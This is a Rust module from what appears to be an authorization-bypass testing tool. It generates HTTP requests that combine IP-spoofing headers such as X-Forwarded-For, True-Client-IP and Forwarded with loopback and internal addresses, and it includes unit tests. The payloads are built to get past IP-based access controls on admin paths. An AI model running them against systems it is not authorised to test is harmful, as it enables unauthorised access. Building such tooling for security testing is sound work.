//! `headers_ip`: cross-product of IP-spoofing header names and
//! candidate IP values, plus user-supplied spoof lists. `Forwarded`
//! gets three value shapes; a fixed `X-AppEngine-Trusted-IP-Request: 1`
//! header is always appended once.

use crate::generators::GeneratorContext;
use crate::payload::{BypassPayload, HeaderList};
use crate::url::RawUrl;

use super::common::payload;

const HEADER_NAMES: &[&str] = &[
    "X-Forwarded-For",
    "X-Real-IP",
    "X-Client-IP",
    "X-Originating-IP",
    "X-Remote-IP",
    "X-Remote-Addr",
    "X-Cluster-Client-IP",
    "True-Client-IP",
    "CF-Connecting-IP",
    "Forwarded",
];

const IPS: &[&str] = &["127.0.0.1", "localhost", "0.0.0.0", "::1", "127.0.1.1", "10.0.0.1"];

pub fn generate(url: &RawUrl, ctx: &GeneratorContext) -> Vec<BypassPayload> {
    let mut header_names: Vec<String> = HEADER_NAMES.iter().map(|s| s.to_string()).collect();
    header_names.extend(ctx.spoof_headers.iter().cloned());

    let mut ips: Vec<String> = IPS.iter().map(|s| s.to_string()).collect();
    ips.extend(ctx.spoof_ips.iter().cloned());

    let mut seen = std::collections::HashSet::new();
    let mut out = Vec::new();

    for name in &header_names {
        for ip in &ips {
            if name.eq_ignore_ascii_case("Forwarded") {
                for shape in ["by", "for", "host"] {
                    let value = format!("{}={}", shape, ip);
                    push(&mut out, &mut seen, url, name, &value);
                }
            } else {
                push(&mut out, &mut seen, url, name, ip);
            }
        }
    }

    push(&mut out, &mut seen, url, "X-AppEngine-Trusted-IP-Request", "1");

    out
}

fn push(out: &mut Vec<BypassPayload>, seen: &mut std::collections::HashSet<(String, String)>, url: &RawUrl, name: &str, value: &str) {
    if !seen.insert((name.to_ascii_lowercase(), value.to_string())) {
        return;
    }
    let headers = HeaderList::new().with(name, value);
    out.push(payload(url, "GET", url.raw_uri(), headers, "headers_ip"));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::recon::ReconCache;

    #[test]
    fn forwarded_header_gets_three_value_shapes() {
        let url = crate::url::parse("http://h/admin").unwrap();
        let recon = ReconCache::new();
        let ctx = GeneratorContext { wordlists: &crate::wordlist::InMemoryWordlist::new(), recon: &recon, spoof_headers: &[], spoof_ips: &[] };
        let payloads = generate(&url, &ctx);
        let forwarded_values: Vec<&str> = payloads
            .iter()
            .filter(|p| p.headers.get("Forwarded").is_some())
            .map(|p| p.headers.get("Forwarded").unwrap())
            .collect();
        assert!(forwarded_values.iter().any(|v| v.starts_with("by=")));
        assert!(forwarded_values.iter().any(|v| v.starts_with("for=")));
        assert!(forwarded_values.iter().any(|v| v.starts_with("host=")));
    }

    #[test]
    fn includes_fixed_appengine_header() {
        let url = crate::url::parse("http://h/admin").unwrap();
        let recon = ReconCache::new();
        let ctx = GeneratorContext { wordlists: &crate::wordlist::InMemoryWordlist::new(), recon: &recon, spoof_headers: &[], spoof_ips: &[] };
        let payloads = generate(&url, &ctx);
        assert!(payloads.iter().any(|p| p.headers.get("X-AppEngine-Trusted-IP-Request") == Some("1")));
    }

    #[test]
    fn spoof_lists_are_merged_in() {
        let url = crate::url::parse("http://h/admin").unwrap();
        let recon = ReconCache::new();
        let spoof_headers = vec!["X-Custom-IP".to_string()];
        let spoof_ips = vec!["203.0.113.9".to_string()];
        let ctx = GeneratorContext { wordlists: &crate::wordlist::InMemoryWordlist::new(), recon: &recon, spoof_headers: &spoof_headers, spoof_ips: &spoof_ips };
        let payloads = generate(&url, &ctx);
        assert!(payloads.iter().any(|p| p.headers.get("X-Custom-IP") == Some("203.0.113.9")));
    }
}
